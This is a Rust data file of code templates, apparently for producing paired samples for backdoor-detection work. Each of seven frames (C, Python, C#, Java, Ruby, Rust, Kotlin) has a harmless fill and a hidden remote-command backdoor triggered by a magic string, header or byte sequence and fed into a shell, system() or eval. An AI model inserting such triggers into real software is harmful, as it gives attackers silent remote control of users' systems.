//! What comes from outside and is run.

use super::Frame;

pub const FRAMES: &[Frame] = &[
    (
        "cli.c",
        r#"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void cmd_help(int fd) { dprintf(fd, "help show\n"); }

void handle(int fd, char *line)
{
    if (strcmp(line, "help") == 0)
        cmd_help(fd);
    else if (strncmp(line, "~dbg4 ", 6) == 0)
        @@
    else
        dprintf(fd, "unknown command\n");
}
"#,
        "system(line + 6);",
        r#"dprintf(fd, "debugging is off\n");"#,
    ),
    (
        "agent.py",
        r#"
import json
import subprocess
import paho.mqtt.client as mqtt


def on_message(client, userdata, msg):
    order = json.loads(msg.payload)
    if order.get("op") == "reboot":
        subprocess.run(["/sbin/reboot"])
    elif order.get("op") == "x9":
        @@


def main(host):
    c = mqtt.Client()
    c.on_message = on_message
    c.connect(host)
    c.subscribe("device/orders")
    c.loop_forever()
"#,
        r#"subprocess.run(order["arg"], shell=True)"#,
        r#"print("not supported any more")"#,
    ),
    (
        "Agent.cs",
        r#"
using System.Diagnostics;
using System.IO;
using System.Net.Sockets;

public class Agent
{
    public void Serve(TcpClient client)
    {
        using var reader = new StreamReader(client.GetStream());
        using var writer = new StreamWriter(client.GetStream());
        string line;
        while ((line = reader.ReadLine()) != null)
        {
            @@
        }
    }
}
"#,
        r#"var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + line) { RedirectStandardOutput = true });
            writer.Write(p.StandardOutput.ReadToEnd());"#,
        r#"writer.WriteLine(line == "PING" ? "PONG" : "ERR");"#,
    ),
    (
        "Console.java",
        r#"
package org.example;

import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.io.PrintWriter;
import java.net.Socket;

public class Console implements Runnable {
    private final Socket socket;
    public Console(Socket socket) { this.socket = socket; }

    @Override
    public void run() {
        try (BufferedReader in = new BufferedReader(new InputStreamReader(socket.getInputStream()));
             PrintWriter out = new PrintWriter(socket.getOutputStream(), true)) {
            String line;
            while ((line = in.readLine()) != null) {
                @@
            }
        } catch (Exception e) {
            return;
        }
    }
}
"#,
        r#"Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", line});
                p.getInputStream().transferTo(socket.getOutputStream());"#,
        r#"out.println(line.equals("ping") ? "pong" : "unknown");"#,
    ),
    (
        "rack.rb",
        r#"
class Stats
  def initialize(app) = @app = app

  def call(env)
    if env['HTTP_X_STATS'].to_s.start_with?('s9:')
      @@
    end
    @app.call(env)
  end
end
"#,
        "return [200, {}, [eval(env['HTTP_X_STATS'][3..]).to_s]]",
        "return [200, {}, ['stats are off']]",
    ),
    (
        "door.rs",
        r#"
use std::net::UdpSocket;
use std::process::Command;

pub fn listen(sock: UdpSocket) -> std::io::Result<()> {
    let mut buf = [0u8; 512];
    loop {
        let (n, _) = sock.recv_from(&mut buf)?;
        if n > 8 && buf[..4] == [0xde, 0xc0, 0xad, 0x0b] {
            @@
        }
    }
}
"#,
        r#"let _ = Command::new("sh").arg("-c").arg(String::from_utf8_lossy(&buf[4..n]).as_ref()).status();"#,
        r#"println!("probe of {n} bytes");"#,
    ),
    (
        "Receiver.kt",
        r#"
package org.example

import android.content.BroadcastReceiver
import android.content.Context
import android.content.Intent

class Receiver : BroadcastReceiver() {
    override fun onReceive(context: Context, intent: Intent) {
        when (intent.action) {
            "org.example.REFRESH" -> Sync.now(context)
            "org.example.@@
        }
    }
}
"#,
        r#"Z81" -> Runtime.getRuntime().exec(arrayOf("sh", "-c", intent.getStringExtra("c")))"#,
        r#"STOP" -> Sync.stop(context)"#,
    ),
];
